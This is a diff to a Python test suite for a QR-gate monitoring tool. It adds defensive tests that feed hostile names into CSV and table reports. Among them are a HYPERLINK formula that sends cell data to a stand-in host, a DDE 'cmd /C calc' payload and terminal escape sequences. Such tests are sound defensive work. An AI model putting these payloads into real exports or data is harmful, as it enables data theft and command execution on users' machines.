@@ -17,8 +17,10 @@ import pytest
 from paho.mqtt.enums import CallbackAPIVersion
 
 from monitor.store import Store
+from mqtt.signing import EventSigner, public_text
 from scanner.cli import run
 from tests.support.broker import Mosquitto
+from tests.support.central import stored_events
 from tests.support.cli import QRGATE
 from tests.support.monitor_events import gate_event, payload, record, topic
 
@@ -53,17 +55,6 @@ def wait_subscribed(monitor: subprocess.Popen[str]) -> None:
     pytest.fail("the monitor did not subscribe")
 
 
-def stored(db: str) -> int:
-    try:
-        store = Store(db, create=False)
-    except Exception:  # not created yet
-        return 0
-    try:
-        return store.count_events()
-    finally:
-        store.close()
-
-
 def test_killed_monitor_resumes_its_session_and_loses_nothing(
     mosquitto: Mosquitto, tmp_path: Path
 ) -> None:
@@ -77,13 +68,13 @@ def test_killed_monitor_resumes_its_session_and_loses_nothing(
         wait_subscribed(monitor)
         for event in events[:300]:
             gate.publish(topic(event), payload(event), qos=1)
-        wait_for(lambda: stored(db) > 0)
+        wait_for(lambda: stored_events(db) > 0)
         monitor.kill()  # mid-stream: some stored and not acknowledged, some not stored
         monitor.wait()
         for event in events[300:]:  # published while no monitor runs
             gate.publish(topic(event), payload(event), qos=1).wait_for_publish(5)
         monitor = start_monitor(mosquitto, db)
-        wait_for(lambda: stored(db) == 600)
+        wait_for(lambda: stored_events(db) == 600)
         monitor.send_signal(signal.SIGTERM)
         assert monitor.wait(15) == 0
     finally:
@@ -174,6 +165,65 @@ def test_contacts_as_a_table(day_db: str, capsys: pytest.CaptureFixture[str]) ->
     assert "20:00:00" in out  # A back at 04:00, with B until the end of the period
 
 
+HOSTILE = {
+    "F": '=HYPERLINK("http://x.invalid/?"&A1,"Nguyen")',
+    "P": "+1+cmd|' /C calc'!A0",
+    "M": "-2+3",
+    "T": "@SUM(1)",
+    "H": "\tTab",
+    "R": "\rCR",
+    "E": "Esc\x1b[2J\x1b]8;;http://x.invalid\x07link\x1b]8;;\x07 Bell\x07 [bold]markup[/bold]",
+}
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> str:
+    db = f"sqlite:///{tmp_path}/hostile.db"
+    store = Store(db)
+    store.write(
+        [
+            record(gate_event(seq, f"{DAY}T0{seq}:00", subject=subject, name=name))
+            for seq, (subject, name) in enumerate(HOSTILE.items(), start=1)
+        ]
+    )
+    store.close()
+    return db
+
+
+def test_no_report_hands_a_spreadsheet_a_formula(
+    hostile_db: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = report(capsys, "onsite", "--db", hostile_db, "--format", "csv")
+    assert code == 0
+    names = {row["subject"]: row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))}
+    assert {subject: names[subject] for subject in "FPMT"} == {
+        subject: "'" + HOSTILE[subject] for subject in "FPMT"
+    }
+    assert (names["H"], names["R"]) == ("Tab", "CR")  # control characters go
+    assert not any(ch in out for ch in "\x1b\x07\r\t")
+    code, out, _ = report(capsys, "onsite", "--db", hostile_db, "--format", "json")
+    assert {row["subject"]: row["name"] for row in json.loads(out)} == HOSTILE  # JSON escapes
+
+
+def test_no_report_table_hands_a_terminal_control_characters(
+    hostile_db: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = report(capsys, "onsite", "--db", hostile_db)
+    assert code == 0
+    assert not any(ch in out for ch in "\x1b\x07\r\t")
+    assert "[bold]markup" in out  # shown as written, not as rich markup
+
+
+def test_reports_say_which_gates_nothing_authenticates(
+    day_db: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, err = report(capsys, "onsite", "--db", day_db, "--format", "json")
+    assert code == 0
+    json.loads(out)  # the notes stay out of the report itself
+    assert "note: 3 event(s) of f1/in-1 are not authenticated (its key is not enrolled" in err
+    assert "note: 1 event(s) of f1/out-1 are not authenticated" in err
+
+
 @pytest.mark.parametrize(
     ("args", "code", "message"),
     [
@@ -219,3 +269,47 @@ def test_monitor_help_names_the_default_store() -> None:
         env={**os.environ, "COLUMNS": "200"},
     )
     assert "sqlite:///./qrgate-monitor.db" in done.stdout
+
+
+def test_gates_are_enrolled_listed_and_removed(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    db = f"sqlite:///{tmp_path}/keys.db"
+    public = public_text(EventSigner.load_or_create(tmp_path / "k.pem").public)
+
+    def gates(*args: str) -> tuple[int, str, str]:
+        code = run(["gates", *args, "--db", db])
+        out, err = capsys.readouterr()
+        return code, out, err
+
+    assert gates("enroll", "f1", public)[0] == 2
+    code, _, err = gates("enroll", "f1/g1", "AAAA")
+    assert (code, "43 base64url characters" in err) == (2, True)
+    code, out, _ = gates("enroll", "f1/g1", public)
+    assert code == 0
+    kid = out.split()[2]
+    assert out == f"f1/g1: key {kid} enrolled\n"
+    assert gates("enroll", "f1/g1", public)[1] == f"f1/g1: key {kid} already enrolled\n"
+    listed = gates("list")[1].splitlines()
+    assert listed[1].split() == ["f1/g1", "unknown", "0", "0", "0", kid]
+    assert gates("remove", "f1/g1")[1] == "f1/g1: 1 key(s) removed\n"
+    code, _, err = gates("remove", "f1/g1", kid)
+    assert (code, "has no such key enrolled" in err) == (1, True)
+
+
+def test_event_key_shows_the_gate_s_public_key_and_how_to_enroll_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "gate.toml"
+    config.write_text(f'[store]\npath = "{tmp_path}/state/qrgate.db"\n')
+    assert run(["event-key", "-c", str(config)]) == 0
+    out, err = capsys.readouterr()
+    assert "made a new event key" in err
+    key = tmp_path / "state" / "event-key.pem"
+    assert oct(key.stat().st_mode & 0o777) == "0o600"
+    public = public_text(EventSigner.load(key).public)
+    assert f"public key  {public}\n" in out
+    assert f"qrgate gates enroll factory-1/gate-1 {public} --db URL" in out
+    assert run(["event-key", "-c", str(config), "--json"]) == 0
+    shown = json.loads(capsys.readouterr().out)
+    assert (shown["site"], shown["gate"], shown["x"]) == ("factory-1", "gate-1", public)
